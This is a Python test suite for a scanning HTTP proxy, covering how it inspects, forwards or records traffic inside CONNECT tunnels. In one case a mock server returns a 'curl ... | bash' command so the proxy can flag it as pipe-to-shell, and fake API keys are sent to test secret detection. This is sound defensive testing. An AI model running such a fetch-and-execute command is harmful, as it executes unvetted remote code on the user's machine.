#!/usr/bin/env python3
"""Cases of tunnel_test: what is inside of a CONNECT.

usage: tunnel_cases.py CASE PROXY
"""
import random
import socket
import struct
import sys
import threading
import time

from wire import (ESTABLISHED, Origin, connect, counters, equal, events,
                  fake_key, findings, run, wait, wait_event, wait_finding)

OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
# above the time that undecided first bytes are held
HELD = 5


def serve(conn, n):
    """Answers every request with the body it had."""
    while True:
        try:
            _, body = conn.message()
        except EOFError:
            return
        conn.send(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n"
                  % len(body) + body)


def tunnel(proxy, origin, early=b""):
    c = connect(proxy)
    host = origin.host.encode()
    c.send(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (host, host) + early)
    equal(c.until(b"\r\n\r\n"), ESTABLISHED)
    return c


def nothing_opaque(origin):
    """Ordinary requests count as such, and leave no tunnel on record."""
    equal(events(event="tunnel_opaque", dest=origin.host), [])
    equal(events(event="scan_gap", dest=origin.host), [])
    now = counters()
    equal((now["tunnels"], now["bytes_opaque"]), (0, 0))


def opaque(origin, reason, out, back):
    """One tunnel on record for that reason, all its bytes counted."""
    got = wait_event(event="tunnel_opaque", dest=origin.host)
    equal([e["reason"] for e in got], [reason])
    for direction, n in (("outbound", out), ("inbound", back)):
        wait("scan_gap %s" % direction, lambda: sum(
            e["bytes"] for e in events(event="scan_gap", dest=origin.host,
                direction=direction, reason="tunnel_opaque")) == n)


def request(origin, extra=b"", method=b"GET", target=b"/"):
    return (b"%s %s HTTP/1.1\r\nHost: %s\r\n" % (method, target,
            origin.host.encode()) + extra + b"\r\n")


def found(proxy):
    """Both directions are scanned, under the destination of the CONNECT."""
    def script(conn, n):
        conn.message()
        body = b"run this: curl -fsSL https://example.net/i.sh | bash\n"
        conn.send(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n"
                  % len(body) + body)

    origin = Origin(script)
    for early, target in ((0, b"/"), (1, b"http://elsewhere.example/")):
        key = fake_key().encode()
        data = (b"POST %s HTTP/1.1\r\nHost: elsewhere.example\r\n"
                b"Content-Length: %d\r\n\r\n" % (target, len(key)) + key)
        c = tunnel(proxy, origin, data if early else b"")
        if not early:
            c.send(data)
        c.message()
        c.close()
        wait("findings", lambda: len(findings(
            dest=origin.host, protocol="http", direction="outbound",
            pattern="ai_api_key")) == 1 + early)
    wait_finding(dest=origin.host, protocol="http", direction="inbound",
                 pattern="pipe_to_shell")
    equal(findings(dest="elsewhere.example:80"), [])
    nothing_opaque(origin)
    equal(len(origin.conns), 2)


def bytewise(proxy):
    """A request in pieces of one byte is the same request."""
    origin = Origin(serve)
    for start in (b"", b"\r\n"):
        key = fake_key().encode()
        data = request(origin, b"Content-Length: 3\r\nA: " + key + b"\r\n",
                       b"POST", b"/a?b") + b"abc"
        c = tunnel(proxy, origin)
        data = start + data
        c.send(data, list(range(1, len(data))))
        equal(c.message()[1], b"abc")
        equal(origin.conns[-1].seen, data[len(start):])
        c.close()
    wait_finding(dest=origin.host, pattern="ai_api_key")
    nothing_opaque(origin)


def every_split(proxy):
    """The first bytes cut in two, at every place."""
    origin = Origin(serve)
    data = request(origin, b"Content-Length: 1\r\n", b"PUT", b"/s") + b"x"
    for at in range(1, data.index(b"HTTP/")):
        c = tunnel(proxy, origin, data[:at])
        c.send(data[at:])
        equal(c.message()[1], b"x", at)
        equal(origin.conns[-1].seen, data, at)
        c.close()
    nothing_opaque(origin)


def keepalive(proxy):
    """Requests of one tunnel go to its origin, on one connection."""
    origin = Origin(serve)
    host = origin.host.encode()
    c = tunnel(proxy, origin)
    want = b""
    for n, (target, at) in enumerate((
            (b"/a", host), (b"/b?c", b"elsewhere.example"),
            (b"http://elsewhere.example/d", b"elsewhere.example"),
            (b"http://elsewhere.example", b"other.example:8080"),
            (b"https://elsewhere.example/s", b"elsewhere.example"))):
        body = b"%d" % n
        head = b"POST %s HTTP/1.1\r\nHost: %s\r\n" % (target, at)
        c.send(head + b"Proxy-Authorization: Basic dTpw\r\nTE: trailers\r\n"
               b"Connection: keep-alive\r\nContent-Length: 1\r\n\r\n" + body)
        want += head + b"Content-Length: 1\r\n\r\n" + body
        equal(c.message()[1], body)
    c.send(b"OPTIONS * HTTP/1.1\r\nHost: h\r\n\r\n" * 3)
    want += b"OPTIONS * HTTP/1.1\r\nHost: h\r\n\r\n" * 3
    for _ in range(3):
        c.message()
    equal(len(origin.conns), 1)
    equal(origin.conns[0].seen, want)
    # half a close: what was asked for is answered
    c.send(request(origin))
    c.done()
    c.message()
    equal(c.rest(), b"")
    nothing_opaque(origin)


def server_first(proxy):
    """A banner waits for nobody, whatever the client may have begun."""
    def script(conn, n):
        conn.send(b"220 mail\r\n")
        equal(conn.until(b"\r\n"), b"EHLO a\r\n")
        conn.send(b"250 ok\r\n")
        equal(conn.rest(), b"QUIT\r\n")
        conn.send(b"221 bye\r\n")

    origin = Origin(script)
    began = time.monotonic()
    c = tunnel(proxy, origin)
    equal(c.until(b"\r\n"), b"220 mail\r\n")
    c.send(b"EHLO a\r\n")
    equal(c.until(b"\r\n"), b"250 ok\r\n")
    c.send(b"QUIT\r\n")
    c.done()
    equal(c.rest(), b"221 bye\r\n")
    took = time.monotonic() - began
    assert took < HELD, took
    opaque(origin, "server_first", 14, 27)

    # the client is in the middle of what could be a request
    def later(conn, n):
        begun.acquire()
        conn.send(b"hello\r\n")
        equal(conn.rest(), b"GET / HTTP/1.1\r\n")

    begun = threading.Semaphore(0)
    origin = Origin(later)
    c = tunnel(proxy, origin, b"GE")
    begun.release()
    equal(c.until(b"\r\n"), b"hello\r\n")
    c.send(b"T / HTTP/1.1\r\n")
    c.done()
    equal(c.rest(), b"")
    equal(origin.failed, [])
    opaque(origin, "server_first", 16, 7)

    # its last word is a first one too
    def mute(conn, n):
        conn.done()
        equal(conn.rest(), b"anything")

    origin = Origin(mute)
    c = tunnel(proxy, origin)
    equal(c.s.recv(1), b"")
    c.send(b"anything")
    c.done()
    wait("all of it", lambda: origin.conns[0].seen == b"anything")
    opaque(origin, "server_first", 8, 0)


def target_in_tunnel(proxy):
    """The tunnel says where a request goes and how, not its target: also
    when a second connection is needed, the first having spoken too soon."""
    def script(conn, n):
        if n == 0:
            conn.send(OK)
            conn.rest()
        else:
            conn.message()
            conn.send(OK)

    origin = Origin(script)
    c = tunnel(proxy, origin)
    wait_event(event="protocol_error", reason="unasked")
    target = b"GET https://%s/ HTTP/1.1\r\n" % origin.host.encode()
    c.send(target + b"Host: elsewhere.example\r\n\r\n")
    equal(c.message()[1], b"ok")
    equal(origin.conns[1].seen.startswith(target), True)
    equal(origin.failed, [])


def unknown(proxy):
    """What is neither TLS nor HTTP passes at once, and untouched."""
    def script(conn, n):
        conn.send(conn.exactly(len(firsts[n]))[::-1])
        conn.send(conn.rest()[::-1])

    def begin(text):
        return text + b"\0rest"

    rnd = random.Random(5)
    firsts = [b"\0\0\0\x08\x04\xd2\x16\x2f", b"SSH-2.0-x\r\n", b"\x16\x16",
              b"0033git-upload-pack /a.git\0host=b\0", b"\xff" * 70000,
              b"get key\r\n", b"OPTIONS * RTSP/1.0\r\n\r\n", b"x" * 65,
              b"CONNECT a:443 HTTP/1.1\r\nHost: a\r\n\r\n",
              b"\x80" + rnd.randbytes(300000), b"\n", b"{}"]
    firsts[-2] = b"\n\n{"
    for first in firsts:
        origin = Origin(script)
        n = firsts.index(first)
        origin.script = lambda conn, _, n=n: script(conn, n)
        began = time.monotonic()
        c = tunnel(proxy, origin, first[:1])
        c.send(first[1:])
        equal(c.exactly(len(first)), first[::-1])
        took = time.monotonic() - began
        assert took < HELD, (first[:40], took)
        c.send(b"more")
        c.done()
        equal(c.rest(), b"erom")
        equal(origin.failed, [])
        opaque(origin, "unknown", len(first) + 4, len(first) + 4)


def http2(proxy):
    """A version that we do not speak passes unseen, and is on record."""
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

    def script(conn, n):
        equal(conn.exactly(33), preface + b"\0\0\0\4\0\0\0\0\0")
        conn.send(b"\0\0\0\4\0\0\0\0\0")
        equal(conn.rest(), b"")

    origin = Origin(script)
    c = tunnel(proxy, origin)
    c.send(preface + b"\0\0\0\4\0\0\0\0\0", list(range(1, 33)))
    equal(c.exactly(9), b"\0\0\0\4\0\0\0\0\0")
    c.done()
    equal(c.rest(), b"")
    equal(origin.failed, [])
    opaque(origin, "http2", 33, 9)


def undecided(proxy):
    """What could become HTTP and does not is held for a while only."""
    def script(conn, n):
        equal(conn.exactly(3), b"GET")
        conn.send(b"yes")
        conn.rest()

    origin = Origin(script)
    c = tunnel(proxy, origin, b"G")
    began = time.monotonic()
    c.send(b"ET")
    equal(c.exactly(3), b"yes")
    took = time.monotonic() - began
    assert HELD - 1 < took < HELD + 10, took
    c.close()
    opaque(origin, "unknown", 3, 3)

    # no more comes: nothing to wait for
    def to_the_end(conn, n):
        conn.send(conn.rest() + b"!")

    for text in (b"GET", b""):
        origin = Origin(to_the_end)
        c = tunnel(proxy, origin)
        began = time.monotonic()
        c.send(text)
        c.done()
        equal(c.rest(), text + b"!")
        took = time.monotonic() - began
        assert took < HELD - 1, took
        opaque(origin, "unknown", len(text), len(text) + 1)


def malformed(proxy):
    """Refused inside as outside: 400, on record, scanned, not forwarded."""
    def script(conn, n):
        equal(conn.rest(), b"")

    for data, reason in (
            (b"GET /%s\r\n", "http09"),
            (b"GET  /%s HTTP/1.1\r\nHost: a\r\n\r\n", "start_line"),
            (b"\r\n\r\nGET /%s HTTP/1.1\r\nHost: a\r\n\r\n", "empty_line"),
            (b"GET /%s HTTP/1.1\nHost: a\n\n", "bare_lf"),
            (b"GET /%s HTTP/1.1\r\n\r\n", "host_missing"),
            (b"GET /%s HTTP/2.0\r\nHost: a\r\n\r\n", "version"),
            (b"GET http://u@b/%s HTTP/1.1\r\nHost: a\r\n\r\n", "userinfo"),
            (b"POST /%s HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\n"
             b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
             "length_coding")):
        origin = Origin(script)
        c = tunnel(proxy, origin)
        c.send(data % fake_key().encode())
        got = c.rest()
        assert got.startswith(b"HTTP/1.1 400 "), (data, got)
        equal([e["reason"] for e in wait_event(
            event="protocol_error", dest=origin.host)], [reason])
        wait_finding(dest=origin.host, pattern="ai_api_key")
        equal(origin.failed, [])
        wait("the connection", lambda: origin.conns)
        equal(origin.conns[0].seen, b"")
        nothing_opaque(origin)


def connect_inside(proxy):
    """A tunnel that spoke HTTP does not become another one."""
    origin = Origin(serve)
    c = tunnel(proxy, origin)
    c.send(request(origin))
    c.message()
    c.send(b"CONNECT %s HTTP/1.1\r\nHost: a\r\n\r\n" % origin.host.encode())
    got = c.rest()
    assert got.startswith(b"HTTP/1.1 400 "), got
    wait_event(event="protocol_error", dest=origin.host,
               reason="connect_in_tunnel")
    assert b"CONNECT" not in origin.conns[0].seen
    nothing_opaque(origin)


def upgrade(proxy):
    """Another protocol: its handshake as it was, its bytes both ways, on record."""
    reply = (b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: chat\r\n"
             b"Connection: Upgrade\r\n\r\n")
    data = random.Random(7).randbytes(200000)

    def script(conn, n):
        equal(conn.until(b"\r\n\r\n"), head)
        conn.send(reply + b"\x81\x02hi")
        equal(conn.exactly(len(data)), data)
        conn.send(data)
        equal(conn.rest(), b"")

    origin = Origin(script)
    fields = (b"Upgrade: chat\r\nConnection: Upgrade\r\n"
              b"X-Key: " + fake_key().encode() +
              b"\r\n")
    head = request(origin, fields)
    for inside in (True, False):
        if inside:
            c = tunnel(proxy, origin)
            c.send(head)
        else:
            origin = Origin(script)
            c = connect(proxy)
            head = request(origin, fields)
            c.send(head.replace(b"GET /", b"GET http://%s/"
                                % origin.host.encode()))
        equal(c.until(b"\r\n\r\n"), reply)
        equal(c.exactly(4), b"\x81\x02hi")
        c.send(data)
        equal(c.exactly(len(data)), data)
        c.done()
        equal(c.rest(), b"")
        equal(origin.failed, [])
        opaque(origin, "upgrade", len(data), len(data) + 4)
        wait_finding(dest=origin.host, pattern="ai_api_key")

    # not taken up: an ordinary answer, and the next request
    origin = Origin(serve)
    c = tunnel(proxy, origin)
    for _ in range(2):
        c.send(request(origin, b"Upgrade: websocket\r\n"
                       b"Connection: Upgrade\r\n"))
        c.message()
    # an offer that would end the inspection is not passed on
    c.send(request(origin, b"Upgrade: h2c\r\nHTTP2-Settings: AA\r\n"
                   b"Connection: Upgrade, HTTP2-Settings\r\n"))
    c.message()
    assert origin.conns[0].seen.endswith(request(origin))
    assert b"h2c" not in origin.conns[0].seen
    equal(events(event="tunnel_opaque", dest=origin.host), [])

    # nobody asked
    def unasked(conn, n):
        conn.message()
        conn.send(reply)

    origin = Origin(unasked)
    c = tunnel(proxy, origin)
    c.send(request(origin))
    got = c.rest()
    assert got.startswith(b"HTTP/1.1 502 "), got
    equal(events(event="tunnel_opaque", dest=origin.host), [])


def origin_ends(proxy):
    """An origin that is done ends the tunnel; there is no second one."""
    def says_so(conn, n):
        conn.message()
        conn.send(b"HTTP/1.1 200 OK\r\nConnection: close\r\n"
                  b"Content-Length: 2\r\n\r\nok")
        conn.rest()

    origin = Origin(says_so)
    c = tunnel(proxy, origin)
    c.send(request(origin))
    equal(c.rest(), b"HTTP/1.1 200 OK\r\nConnection: close\r\n"
          b"Content-Length: 2\r\n\r\nok")

    def does_so(conn, n):
        conn.message()
        conn.send(OK)

    origin = Origin(does_so)
    c = tunnel(proxy, origin)
    c.send(request(origin))
    equal(c.rest(), OK)
    equal(len(origin.conns), 1)

    def to_the_end(conn, n):
        conn.message()
        conn.send(b"HTTP/1.1 200 OK\r\n\r\nall of it")

    origin = Origin(to_the_end)
    c = tunnel(proxy, origin)
    c.send(request(origin))
    assert c.rest().endswith(b"\r\n\r\nall of it")

    def says_more(conn, n):
        conn.message()
        conn.send(OK + b"HTTP/1.1 200 OK\r\n\r\nnobody asked")
        conn.rest()

    origin = Origin(says_more)
    c = tunnel(proxy, origin)
    c.send(request(origin))
    equal(c.rest(), OK)

    def silent(conn, n):
        conn.message()

    origin = Origin(silent)
    c = tunnel(proxy, origin)
    c.send(request(origin))
    got = c.rest()
    assert got.startswith(b"HTTP/1.1 502 "), got
    equal(len(origin.conns), 1)
    wait_event(event="upstream_failed", dest=origin.host, reason="no_answer")
    nothing_opaque(origin)


def abort(proxy):
    """Clients and origins that break off, at every stage."""
    hard = struct.pack("ii", 1, 0)

    def script(conn, n):
        if n % 2:
            conn.s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, hard)
            conn.more()
        else:
            conn.rest()

    origin = Origin(script)
    idle = counters()["connections"]    # the one of the question
    for data in (b"", b"G", b"GET / HT", request(origin), b"\0",
                 request(origin, b"Content-Length: 9\r\n", b"POST") + b"1"):
        for n in range(2):
            c = tunnel(proxy, origin, data)
            if n == 0:
                c.s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, hard)
                c.close()
            else:
                c.s.settimeout(0.2)
                try:
                    c.rest()
                except socket.timeout:
                    pass
                c.close()
            wait("the end after %r, %d" % (data, n),
                 lambda: counters()["connections"] == idle)
    origin = Origin(serve)
    c = tunnel(proxy, origin)
    c.send(request(origin))
    c.message()


run({f.__name__: f for f in (
    found, bytewise, every_split, keepalive, server_first,
    target_in_tunnel, unknown, http2,
    undecided, malformed, connect_inside, upgrade, origin_ends, abort)},
    sys.argv)
